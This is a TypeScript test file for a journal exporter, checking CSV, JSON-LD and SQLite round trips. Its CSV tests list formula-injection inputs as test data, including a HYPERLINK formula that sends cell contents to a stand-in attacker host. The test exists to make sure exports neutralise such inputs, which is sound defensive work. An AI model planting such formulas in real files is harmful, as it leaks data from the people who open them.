import { spawnSync } from "node:child_process";
import { mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { journalWriter, readJournalFile } from "../../../core/journal/exchange.ts";
import { JOURNAL_FORMATS, type JournalFormat } from "../../../core/journal/formats.ts";
import type { JournalEntry } from "../../../core/journal/entry.ts";
import { anyEntry, entry } from "./entries.ts";
import { expandLinked, linkedToQuads } from "../../linked-data.ts";
import { readPlainCsv } from "../../plain-csv.ts";

const anyRows = fc.array(anyEntry, { maxLength: 8 });

function write(format: JournalFormat, rows: readonly JournalEntry[], batch = 3): string {
  const writer = journalWriter(format);
  let text = "";
  for (let start = 0; start < rows.length; start += batch) text += writer.batch(rows.slice(start, start + batch));
  return text + writer.end();
}

describe.each(JOURNAL_FORMATS)("%s", (format) => {
  test("what was exported comes back as it was", () => fc.assert(fc.property(anyRows, (rows) => void expect(readJournalFile(write(format, rows))).toEqual({ entries: rows, wrong: [] }))));

  test("the size of a batch changes nothing", () => fc.assert(fc.property(anyRows, (rows) => void expect(write(format, rows, 1)).toBe(write(format, rows, 5)))));

  test("a row that the journal may not hold is named and left out", () => {
    const text = write(format, [entry({ path: "/list" }), entry()]).replace("/list", "/orders/12345");
    const { entries, wrong } = readJournalFile(text);
    expect(entries).toHaveLength(1);
    expect(wrong).toEqual([{ row: 1, reason: "path: must be masked" }]);
  });
});

describe("CSV read by others", () => {
  const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1", "-1", "@SUM(A1:A9)", "\t=1", "\r=1", "＝1+1", "'=1"];

  test("no cell begins as a formula, whatever a note or a seller's name says", () =>
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ maxLength: 50 })), (note) => {
        const rows = readPlainCsv(write("csv", [entry({ note })]));
        for (const cell of rows.slice(1).flat()) expect(cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }),
    ));

  test("another parser finds the same cells, line ends and quotes and all", () =>
    fc.assert(
      fc.property(anyRows, (rows) => {
        const [header = [], ...lines] = readPlainCsv(write("csv", rows));
        expect(lines).toHaveLength(rows.length);
        const at = (name: string) => header.indexOf(name);
        lines.forEach((line, index) => {
          expect(line).toHaveLength(header.length);
          expect(line[at("id")]).toBe(rows[index]?.id);
          expect(JSON.parse(line[at("findings")] ?? "")).toEqual(rows[index]?.findings);
          expect([rows[index]?.note, `'${rows[index]?.note}`]).toContain(line[at("note")]);
        });
      }),
    ));

  test("SQLite counts what is in it", () => {
    const rows = [entry({ note: 'a "quoted", note\nof two lines' }), entry({ id: "fedcba9876543210fedc-product", service: "temu" })];
    const [header = [], ...lines] = readPlainCsv(write("csv", rows));
    const database = new DatabaseSync(":memory:");
    database.exec(`create table journal (${header.map((name) => `"${name}" text`).join(", ")})`);
    const insert = database.prepare(`insert into journal values (${header.map(() => "?").join(", ")})`);
    for (const line of lines) insert.run(...line);
    expect(database.prepare("select service, count(*) as visits from journal group by service order by service").all().map((row) => ({ ...row }))).toEqual([{ service: "aliexpress", visits: 1 }, { service: "temu", visits: 1 }]);
    expect(database.prepare("select json_array_length(findings) as count from journal").all()).toHaveLength(2);
  });
});

/** The commands of docs/export.md as they stand there, on files by the names that stand there. */
async function documentedCommands(program: string): Promise<string[]> {
  const text = await readFile(join(import.meta.dirname, "..", "..", "..", "docs", "export.md"), "utf8");
  return text.split("\n").filter((line) => line.startsWith(`${program} `));
}

const hasSqlite = spawnSync("sqlite3", ["--version"]).status === 0;

test.skipIf(!hasSqlite)(`sqlite3 loads it by the commands in docs/export.md${hasSqlite ? "" : " (not here: no sqlite3 on this machine)"}`, async () => {
  const folder = await mkdtemp(join(tmpdir(), "waybill-sqlite-"));
  const finding = { role: "carrier" as const, service: "cainiao", certainty: "likely" as const, evidence: [] };
  const rows = [entry({ note: 'a "quoted", note\nof two lines', findings: [finding] }), entry({ id: "fedcba9876543210fedc-product", service: "temu", note: "=1+1" }), entry({ id: "fedcba9876543210fedd-product", findings: [finding, { ...finding, certainty: "confirmed" }] })];
  await writeFile(join(folder, "waybill-journal-2026-11-22.csv"), write("csv", rows));
  const answers = (await documentedCommands("sqlite3")).map((command) => {
    const { status, stdout, stderr } = spawnSync("sh", ["-c", command], { cwd: folder, encoding: "utf8" });
    expect(status, `${command}\n${stderr}`).toBe(0);
    return stdout.trim().split("\n");
  });
  expect(answers).toEqual([[""], ["aliexpress|2", "temu|1"], ["confirmed|1", "likely|2"]]);
  await rm(folder, { recursive: true });
});

describe("JSON-LD read by a processor", () => {
  test("expands with nothing lost, and says in PROV when and from what", () =>
    fc.assert(
      fc.asyncProperty(anyRows, async (rows) => {
        const expanded = await expandLinked(write("jsonld", rows));
        expect(expanded).toHaveLength(rows.length);
        expanded.forEach((node, index) => {
          const row = rows[index];
          expect(node["@type"]).toContain("http://www.w3.org/ns/prov#Entity");
          expect(node["http://www.w3.org/ns/prov#generatedAtTime"]?.[0]?.["@value"]).toBe(row?.at);
          expect(node["http://www.w3.org/ns/prov#wasDerivedFrom"]?.[0]?.["@id"]).toContain(row?.dataset.hash);
          expect(node["https://schema.org/text"]?.[0]?.["@value"]).toBe(row?.note);
          expect(node["https://waybill.invalid/terms#findings"]?.[0]?.["@value"]).toEqual(row?.findings);
        });
      }),
      { numRuns: 40 },
    ));

  test("becomes RDF", async () => {
    const rdf = await linkedToQuads(write("jsonld", [entry({ note: "seen" })]));
    expect(rdf).toContain('<https://schema.org/text> "seen"');
  });
});

test("a file that is none of ours is refused in words", () => {
  expect(() => readJournalFile('{"@context":{}}')).toThrow("no @graph");
  expect(readJournalFile("hello\nworld").wrong[0]?.reason).toContain("id");
});
